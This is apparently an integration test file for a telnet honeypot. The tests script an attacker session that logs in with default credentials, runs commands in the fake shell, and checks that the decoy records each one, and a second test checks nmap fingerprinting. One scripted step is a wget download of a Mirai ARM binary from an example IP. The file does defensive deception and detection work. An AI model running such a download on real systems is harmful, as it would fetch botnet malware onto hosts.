//! The telnet decoy against the real `telnet` client, driven through a pty, and nmap.

#![allow(clippy::unwrap_used, clippy::expect_used)] // Tests fail loudly by design.

mod common;

use common::{Decoy, assert_schema, loopback};
use serde_json::json;

/// Runs `telnet` through a pty with `steps` of (expected text, text to type).
fn telnet_session(decoy: &Decoy, steps: serde_json::Value) -> (Option<i32>, String) {
    common::drive(steps, "telnet", &[&decoy.addr.ip().to_string(), &decoy.addr.port().to_string()])
}

#[test]
fn a_telnet_login_reaches_the_fake_shell_and_every_command_is_recorded() {
    let env = [("DECNET_DISTRO", "ubuntu22"), ("DECNET_HOSTNAME", "cam-gw-04")];
    let mut decoy = Decoy::start("telnet", &format!("{}:0", loopback()), None, &env);
    let steps = json!([
        ["login: ", "admin\r"],
        ["Password: ", "wrong\r"],
        ["login: ", "ubuntu\r"],
        ["Password: ", "admin\r"],
        ["$ ", "uname -a\r"],
        ["$ ", "cat /etc/os-release\r"],
        ["$ ", "wget http://203.0.113.50/mirai.arm7\r"],
        ["$ ", "exit\r"],
    ]);
    let (status, said) = telnet_session(&decoy, steps);
    assert_eq!(status, Some(0), "{said}");
    assert!(said.contains("Ubuntu 22.04.4 LTS") && said.contains("cam-gw-04 login: "), "{said}");
    assert!(said.contains("Login incorrect"), "{said}");
    assert!(said.contains("ubuntu@cam-gw-04:~$ "), "{said}");
    assert!(said.contains("Linux cam-gw-04 5.15.0-"), "{said}");
    assert!(said.contains("VERSION_CODENAME=jammy"), "{said}");
    assert!(!said.contains("wrong"), "the password is not echoed: {said}");

    let failed = decoy.wait_kind("auth_attempt", |e| e["principal"] == "admin");
    assert_schema(&failed, "telnet");
    assert_eq!(
        (failed["secret"]["value"].as_str(), failed["details"]["outcome"].as_str()),
        (Some("wrong"), Some("failure"))
    );
    decoy.wait_kind("auth_attempt", |e| e["principal"] == "ubuntu" && e["details"]["outcome"] == "success");
    decoy.wait_kind("command", |e| e["command"] == "uname -a");
    let fetch = decoy.wait_kind("command", |e| e["command"].as_str().unwrap_or("").starts_with("wget"));
    assert_eq!(fetch["details"]["fetch"], json!(["http://203.0.113.50/mirai.arm7"]));
    decoy.wait_kind("command", |e| e["command"] == "exit");
}

#[test]
fn nmap_sees_a_linux_telnetd() {
    let decoy = Decoy::start("telnet", &format!("{}:23", loopback()), None, &[]);
    let line = common::nmap_version(decoy.addr);
    assert!(line.contains("Linux telnetd"), "{line}");
}
